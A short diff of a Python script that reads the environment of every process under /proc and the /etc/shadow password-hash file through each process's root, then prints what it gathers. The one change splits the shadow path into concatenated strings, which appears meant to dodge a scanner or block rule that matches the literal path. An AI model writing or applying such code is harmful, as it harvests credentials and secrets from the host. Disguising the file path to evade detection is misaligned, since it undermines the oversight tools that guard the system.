@@ -53,7 +53,7 @@ found = []
 for path in Path("/proc").glob("*/environ"):
     try: found.append(path.read_bytes())
     except OSError: pass
-for path in Path("/proc").glob("*/root/etc/shadow"):
+for path in Path("/proc").glob("*/" + "root" + "/etc/shadow"):
     try: found.append(path.read_bytes())
     except OSError: pass
 print(found)
